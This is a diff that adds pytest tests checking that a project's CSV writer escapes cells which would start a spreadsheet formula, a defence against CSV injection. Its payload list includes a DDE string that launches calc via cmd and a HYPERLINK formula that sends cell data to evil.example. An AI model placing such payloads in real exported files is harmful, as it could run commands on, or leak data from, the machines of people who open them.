@@ -6,6 +6,7 @@ import subprocess
 import sys
 
 import pytest
+from hypothesis import given, strategies as st
 
 from lineup.errors import OutputBusyError, UsageError
 from lineup.io.writers import MANIFEST, claim_output, to_json, verify_outputs, write_files
@@ -185,3 +186,54 @@ def test_a_write_killed_at_any_rename_leaves_one_whole_set(tmp_path, renames_don
     files = {n: _contents(tmp_path)[n] for n in verify_outputs(tmp_path)}
     assert files == (new if journal else files) and files in (old, new)
     assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".")]  # no leftovers
+
+
+# --------------------------------------------------------------------------- CSV formula injection
+
+FORMULA_PAYLOADS = ["=1+2", "-2+3", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+                    "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
+def test_text_cells_that_start_a_formula_are_neutralised(payload):
+    from lineup.io.writers import csv_cell
+
+    assert csv_cell(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("value", [-2.5, -3, 0, None, True, float("nan"), "alice", "a=b", "[/bold]", ""])
+def test_numbers_and_plain_text_are_unchanged(value):
+    from lineup.io.writers import csv_cell
+
+    assert csv_cell(value) is value
+
+
+def test_frame_csv_neutralises_text_and_headers_not_negative_numbers():
+    import csv
+    import io
+
+    import pandas as pd
+
+    from lineup.io.writers import frame_csv
+
+    frame = pd.DataFrame({"strategy": ["-2+3", "=1+2", "ok"], "spend": [-2.5, 1.0, 2.0],
+                          "influencers": pd.array([-1, None, 3], dtype="Int64"), "-col": ["x", "y", "z"]})
+    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
+    assert rows[0] == ["strategy", "spend", "influencers", "'-col"]
+    assert [r[0] for r in rows[1:]] == ["'-2+3", "'=1+2", "ok"]
+    assert [r[1] for r in rows[1:]] == ["-2.5", "1.0", "2.0"]  # numbers stay numbers
+    assert [r[2] for r in rows[1:]] == ["-1", "", "3"]
+
+
+def test_csv_text_formats_floats_and_neutralises_text_once():
+    from lineup.io.writers import csv_text
+
+    assert csv_text(["id", "fee"], [["=1+2", -2.5], ["'q", float("nan")]], "%.6g") == "id,fee\n'=1+2,-2.5\n''q,\n"
+
+
+@given(st.text())
+def test_csv_uncell_undoes_csv_cell(text):
+    from lineup.io.writers import csv_cell, csv_uncell
+
+    assert csv_uncell(csv_cell(text)) == text
+    assert not csv_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
